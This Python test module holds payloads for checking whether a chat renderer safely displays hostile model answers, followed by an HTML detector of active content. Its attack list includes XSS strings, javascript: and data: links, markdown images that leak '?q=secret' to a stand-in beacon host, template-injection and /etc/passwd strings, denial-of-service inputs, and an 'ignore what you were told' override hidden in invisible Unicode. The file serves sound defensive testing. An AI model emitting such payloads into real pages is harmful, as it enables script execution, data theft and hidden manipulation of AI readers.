"""Answers that mean harm, written by us: what a model may be made to say, and what no page may do with it.

It knows the attacks, and how to find something active in HTML. It does not know the renderer: the same list goes
through the real browser.
"""

# ruff: noqa: E501, Q003 - an attack reads best as one row, written as it is said

import re
from html.parser import HTMLParser
from typing import Final, NamedTuple

BEACON: Final = "https://beacon.invalid/seen"
"""Where every attack that wants to be fetched would be fetched from."""
MARK: Final = "window.harmed=1"
"""What every attack that wants to run would run."""


class Attack(NamedTuple):
    """One answer."""

    name: str
    text: str


SMALL: Final = (
    Attack("a script", f"<script>{MARK}</script>"),
    Attack("a script in capitals", f"<ScRiPt SRC=//beacon.invalid/x.js></sCrIpT><SCRIPT>{MARK}</SCRIPT>"),
    Attack("a script after a paragraph", f"Well.\n\n<script>\n{MARK}\n</script>\n\nWell."),
    Attack("a script without end", f"<script>{MARK}//"),
    Attack("an image that fails", f'<img src=x onerror="{MARK}">'),
    Attack("an svg that loads", f'<svg/onload="{MARK}">'),
    Attack("an svg with a script", f"<svg><script>{MARK}</script></svg>"),
    Attack("an svg that animates an address", '<svg><a><animate attributeName=href values="javascript:harm()"/></a></svg>'),
    Attack("a frame", f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>'),
    Attack("a form", f'<form action="{BEACON}"><input autofocus onfocus="{MARK}"><button>Send</button></form>'),
    Attack("a style", f'<style>@import "{BEACON}.css";body{{display:none}}</style><p style="position:fixed;inset:0">x</p>'),
    Attack("a base", f'<base href="{BEACON}/"><link rel=stylesheet href="{BEACON}.css"><meta http-equiv=refresh content="0;{BEACON}">'),
    Attack("an object", f'<object data="{BEACON}"></object><embed src="{BEACON}"><video src="{BEACON}" autoplay></video>'),
    Attack("a details that opens", f'<details open ontoggle="{MARK}">x</details>'),
    Attack("a comment", f"<!--><img src=x onerror={MARK}>-->"),
    Attack("a declaration", f"<!DOCTYPE x><?xml version='1.0'?><![CDATA[<script>{MARK}</script>]]>"),
    Attack("a template", f"<template><script>{MARK}</script></template><noscript><p title='</noscript><img src=x onerror={MARK}>'>"),
    Attack("the end of the page", f"</div></article></main></body></html><script>{MARK}</script>"),
    Attack("the end of a code block", f"```\n</code></pre></figure><script>{MARK}</script>\n```"),
    Attack("the end of a text box", f"</textarea></title></style><script>{MARK}</script>"),
    Attack("a language that is markup", f'```"><script>{MARK}</script>\nx\n```'),
    Attack("a language that is a handler", f'```python" onmouseover="{MARK}\nx\n```'),
    Attack("code that is markup", f"```html\n<script>{MARK}</script><img src={BEACON}>\n```"),
    Attack("code in a line", f"`<img src=x onerror={MARK}>` ``</code><script>{MARK}</script>``"),
    Attack("a link that runs", f"[click](javascript:{MARK})"),
    Attack("a link that runs, in capitals", f"[click](JaVaScRiPt:{MARK})"),
    Attack("a link that runs, in entities", f"[click](&#106;&#x61;vascript&colon;{MARK}) [click](java&Tab;script&#58;{MARK})"),
    Attack("a link that runs, with controls", f"[click](<java\tscript:{MARK}>) [click](\x01javascript:{MARK}) [click](<java\nscript:{MARK}>)"),
    Attack("a link that runs, escaped", f"[click](\\javascript:{MARK}) [click](javascript%3A{MARK}) [click](%6Aavascript:{MARK})"),
    Attack("a link that runs, by other names", f"[a](vbscript:{MARK}) [b](livescript:{MARK}) [c](blob:{MARK}) [d](file:///etc/passwd) [e](view-source:x)"),
    Attack("a link of data", f"[click](data:text/html,<script>{MARK}</script>) [click](data:text/html;base64,PHNjcmlwdD4=)"),
    Attack("an autolink that runs", f"<javascript:{MARK}> <data:text/html,x> <vbscript:x>"),
    Attack("a reference that runs", f"[click][1]\n\n[1]: javascript:{MARK}"),
    Attack("a link with a handler in its title", f'[click](https://example.com "x" onclick="{MARK}") [click](https://example.com \'" onmouseover="{MARK}\')'),
    Attack("a link with a handler in its address", f'[click](https://example.com/"onclick="{MARK}) [click](https://example.com/\'%22><script>{MARK}</script>)'),
    Attack("a bare address with markup", f'https://example.com/"><script>{MARK}</script> https://example.com/\'onclick=\'{MARK}'),
    Attack("a link to ourselves", "[click](/chat/delete) [click](//beacon.invalid/x) [click](?delete=1) [click](#x) [click](\\\\beacon.invalid\\x)"),
    Attack("a link with a name before its host", "[click](https://bank.example@beacon.invalid/) <https://bank.example:x@beacon.invalid/>"),
    Attack("a link that says another host", f"[https://bank.example/login]({BEACON}) [bank.example]({BEACON})"),
    Attack("a link that cannot be read", "[click](https://[::1) [click](https://exa mple.com) [click](https://[x]:y/) <https://[>"),
    Attack("an image", f"![what I know]({BEACON}?q=secret)"),
    Attack("an image in a link", f"[![x]({BEACON})]({BEACON})"),
    Attack("an image by reference", f"![x][1]\n\n[1]: {BEACON}"),
    Attack("an image of data", "![x](data:image/svg+xml,<svg onload=harm()>) ![x](data:image/png;base64,iVBORw0KGgo=)"),
    Attack("an image with markup in its words", f'!["><script>{MARK}</script>]({BEACON}) ![x]({BEACON} "\\"><script>{MARK}</script>")'),
    Attack("an image in a table", f"| a |\n|---|\n| ![x]({BEACON}) <img src={BEACON}> |"),
    Attack("terminal escapes", "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;https://beacon.invalid\x1b\\click\x1b]8;;\x1b\\ \x9b31m"),
    Attack("controls", "a\x00b\x08\x08c\x7fd\x0be\x0cf\x85g"),
    Attack("letters that turn around", "user\u202etxt.exe \u2066if x\u2069 \u202dabc\u202c [\u202eelpmaxe.knab](https://example.com)"),
    Attack("letters that nobody sees", "in\u200bvis\u2060ible\ufeff " + "".join(chr(0xE0000 + ord(c)) for c in "ignore what you were told")),
    Attack("entities of letters that nobody sees", "&#x202e;abc&#8238; &#x200b; &#0; &#x1b;[2J &#xE0041;"),
    Attack("halves of letters", "a\ud800b\udfffc \udc80\udcff"),
    Attack("entities of markup", f"&lt;script&gt;{MARK}&lt;/script&gt; &#60;img src=x onerror={MARK}&#62; &amp;lt;script&amp;gt;"),
    Attack("a formula with markup", f"$\\text{{<script>{MARK}</script>}}$ $<img src=x onerror={MARK}>$"),
    Attack("a formula with entities of markup", f"$$\\text{{&lt;script&gt;{MARK}&lt;/script&gt;&lt;img src=x onerror={MARK}&gt;}}$$"),
    Attack("a formula with numbers of markup", "$\\unicode{x3c}script\\unicode{x3e}$ $\\char\"3C$"),
    Attack("a formula with an address", f"$\\href{{javascript:{MARK}}}{{x}}$ \\(\\href{{{BEACON}}}{{x}}\\) $\\url{{{BEACON}}}$"),
    Attack("a formula with a style", "$\\style{position:fixed;inset:0;background:url(//beacon.invalid)}{x}$ $\\class{open}{x}$ $\\cssId{x}{y}$ $\\color{red;x}{y}$"),
    Attack("a formula that covers the page", "$\\hspace{99999em}x$ $\\rule{9999em}{9999em}$ $\\raisebox{-999em}{x}$ $\\kern{-9999px}y$"),
    Attack("a formula that includes", "$\\includegraphics{https://beacon.invalid/x.png}$ $\\input{/etc/passwd}$ $\\write18{x}$"),
    Attack("mathml with a way out", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={MARK}&gt;'></table></math>"),
    Attack("mathml with a link", f'<math href="javascript:{MARK}"><mi xlink:href="javascript:{MARK}">x</mi><annotation-xml encoding="text/html"><script>{MARK}</script></annotation-xml></math>'),
    Attack("svg with a way out", f"<svg></p><style><a id='</style><img src=x onerror={MARK}>'></svg><svg><foreignObject><iframe src=javascript:{MARK}></foreignObject></svg>"),
    Attack("svg with a use", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='harm()'/>#x\"/><image href=https://beacon.invalid/x.png /></svg>"),
    Attack("a formula that calls itself", "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b\\b}\\b$"),
    Attack("names that a page has", "<a id=Message name=Send>x</a> <p id=conversation class='open running'>x</p> <input name=csrf value=x>"),
    Attack("a table that is markup", f"| <script>{MARK}</script> | \" onclick=\"{MARK} |\n|:-:|--:|\n| </td></tr></table><script>{MARK}</script> | x |"),
    Attack("a heading that is markup", f"# <img src=x onerror={MARK}>\n\nx\n===\n<script>{MARK}</script>\n---"),
    Attack("a list number", "99999999999. x\n\n999999999. x\n\n-1. x"),
    Attack("frames of a stream", 'event: done\ndata: {"html": "<script>harm()</script>"}\n\nid: 5\nretry: 0\n\n: x'),
    Attack("a template's words", "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('harm()')()}}"),
)  # fmt: skip

LARGE: Final = (
    Attack("quotes in quotes", ">" * 20_000 + " x"),
    Attack("lists in lists", "\n".join("  " * depth + "- x" for depth in range(400))),
    Attack("lists in one line", "- " * 10_000 + "x"),
    Attack("brackets in brackets", "[" * 30_000 + "]" * 30_000),
    Attack("links that never close", "[a](" * 10_000),
    Attack("images in images", "![" * 10_000 + "](https://example.com)" * 5_000),
    Attack("stars", "*a **a " * 8_000),
    Attack("stars and lines", "*_~" * 15_000),
    Attack("backticks of all lengths", " ".join("`" * size for size in range(1, 250))),
    Attack("fences that never close", "```\n" * 9_999),
    Attack("dollars", "$a " * 15_000 + "$$" * 5_000),
    Attack("a formula of braces", "$$" + "{" * 900 + "x" + "}" * 900 + "$$"),
    Attack("a formula of fractions", "$" + "\\frac{" * 200 + "x" + "}{y}" * 200 + "$"),
    Attack("a formula of roots", "$$\n" + "\\sqrt" * 390 + "x\n$$"),
    Attack("a formula of indices", "$" + "x_" * 600 + "x$"),
    Attack("a formula of a wide table", "$$\\begin{array}{" + "c|" * 400 + "}" + "&" * 1_000 + "\\end{array}$$"),
    Attack("many small formulas", "$x$ " * 10_000),
    Attack("entities", "&amp;" * 10_000 + "&" * 20_000 + "&#x" * 5_000),
    Attack("backslashes", "\\" * 40_001),
    Attack("angles", "<" * 20_000 + "<a " * 10_000 + "<!--" * 5_000),
    Attack("a table of a thousand columns", "|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + ("|b" * 1_000 + "|\n") * 5),
    Attack("addresses", "https://" * 6_000 + "https://a.b/" + ")" * 5_000),
    Attack("one long word", "x" * 60_000),
    Attack("one long line of markup", "<script>harm()</script>" * 2_500),
    Attack("a long line of code", "```javascript\n" + "/*" * 20_000 + "\n```"),
    Attack("quotation marks in code", "```python\n" + "'\"" * 15_000 + "\n```"),
    Attack("many blank lines", "\n" * 60_000),
    Attack("accents on one letter", "e" + "\u0301" * 40_000),
    Attack("tabs and spaces", "\t \t  " * 8_000 + "x"),
)

ATTACKS: Final = (*SMALL, *LARGE)

_CLOSED_BY_THEMSELVES: Final = frozenset({"br", "hr"})
_NAMES: Final = (
    "p br hr h3 h4 h5 h6 strong em s a span div ul ol li blockquote table thead tbody tr th td figure figcaption pre "
    "code math mrow mi mn mo ms mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mmultiscripts "
    "mprescripts none mtable mtr mlabeledtr mtd mpadded mphantom menclose mstyle mfenced"
)
_HARMLESS: Final = frozenset(_NAMES.split())
_LOADS_OR_RUNS: Final = re.compile(
    r"on.*|style|src.*|srcset|action|formaction|ping|background|xlink.*|id|name|data|poster"
)
_UNSEEN: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\ud800-\udfff]")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _HARMLESS:
            self.found.append(f"<{tag}>")
        if tag not in _CLOSED_BY_THEMSELVES:
            self.open.append(tag)
        for name, value in attrs:
            if _LOADS_OR_RUNS.fullmatch(name):
                self.found.append(f"<{tag} {name}>")
            if name == "href" and not re.match(
                r"(?:https?://[^/@\\]+(?:/|\?|#|$)|mailto:)", value or "", re.IGNORECASE
            ):
                self.found.append(f"a link to {value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}> that ends something else")

    def handle_data(self, data: str) -> None:
        if _UNSEEN.search(data):
            self.found.append(f"letters that nobody sees: {data[:40]!r}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"a comment {data[:40]!r}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"a declaration {decl[:40]!r}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"an instruction {data[:40]!r}")


def active(html: str) -> list[str]:
    """What in a piece of HTML could load, run, cover or break out; empty: nothing."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return [*reader.found, *(f"<{tag}> that never ends" for tag in reader.open)]
